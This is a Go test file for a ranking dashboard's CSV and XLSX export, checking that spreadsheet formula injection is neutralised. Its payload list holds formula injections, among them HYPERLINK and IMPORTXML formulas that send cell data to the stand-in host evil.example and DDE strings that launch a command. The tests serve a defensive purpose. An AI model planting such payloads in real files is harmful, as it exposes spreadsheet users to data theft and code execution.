package dashboard

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// formulaPayloads are spreadsheet formula injections (OWASP "CSV injection"): each starts with a
// character a spreadsheet reads as the start of a formula or a DDE call.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`,
	`=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")`,
}

// formulaRanking is the fixture ranking with the payloads as unit codes, names and
// explanations, and a rank that fell (a negative number must stay a number).
func formulaRanking(t *testing.T, i int) RankingExport {
	rk := fixtureRanking(t)
	p := formulaPayloads[i%len(formulaPayloads)]
	q := formulaPayloads[(i+1)%len(formulaPayloads)]
	rk.Rows[0].Code, rk.Rows[0].Name, rk.Rows[0].ExplainVI = p, q, p
	down := -1
	rk.Rows[1].Name, rk.Rows[1].RankChange = q, &down
	return RankingExport{Ranking: rk, Lang: "vi"}
}

// TestCSVFormulaInjection: every text cell that would start a formula is written with a
// leading apostrophe; numbers (a rank change of -1) stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	cells := 0
	for i := range formulaPayloads {
		var buf bytes.Buffer
		if err := WriteRanking(&buf, FormatCSV, formulaRanking(t, i)); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				cells++
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					if _, err := strconv.ParseFloat(cell, 64); err != nil {
						t.Errorf("payload %d: cell %q starts a formula", i, cell)
					}
				}
			}
		}
		h, a := recs[0], recs[1]
		if got, want := a[column(t, h, "Mã đơn vị")], "'"+formulaPayloads[i]; got != want {
			t.Errorf("code cell %q, want %q (the payload behind an apostrophe)", got, want)
		}
		if got := recs[2][column(t, h, "Thay đổi hạng")]; got != "-1" {
			t.Errorf("a rank change of -1 is written %q", got)
		}
	}
	if got := neutralise("Phường Bến Thành"); got != "Phường Bến Thành" {
		t.Errorf("plain text changed: %q", got)
	}
	t.Logf("%d payloads, %d CSV cells checked", len(formulaPayloads), cells)
}

// TestXLSXFormulaInjection: XLSX cells holding the payloads are strings, never formulas.
func TestXLSXFormulaInjection(t *testing.T) {
	formula := regexp.MustCompile(`<f[ >]`)
	for i := range formulaPayloads {
		var buf bytes.Buffer
		if err := WriteRanking(&buf, FormatXLSX, formulaRanking(t, i)); err != nil {
			t.Fatal(err)
		}
		// No formula element in any part of the workbook.
		zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
		if err != nil {
			t.Fatal(err)
		}
		for _, zf := range zr.File {
			if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
				continue
			}
			rc, err := zf.Open()
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(rc)
			rc.Close()
			if formula.Match(b) {
				t.Errorf("payload %d: %s holds a formula element", i, zf.Name)
			}
		}
		f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		sheet := f.GetSheetList()[0]
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		col := column(t, rows[0], "Mã đơn vị")
		cell, _ := excelize.CoordinatesToCellName(col+1, 2)
		typ, err := f.GetCellType(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		fx, _ := f.GetCellFormula(sheet, cell)
		v, _ := f.GetCellValue(sheet, cell)
		if fx != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) || v != formulaPayloads[i] {
			t.Errorf("payload %d: cell %s type %v formula %q value %q; want the payload as a string", i, cell, typ, fx, v)
		}
		f.Close()
	}
}
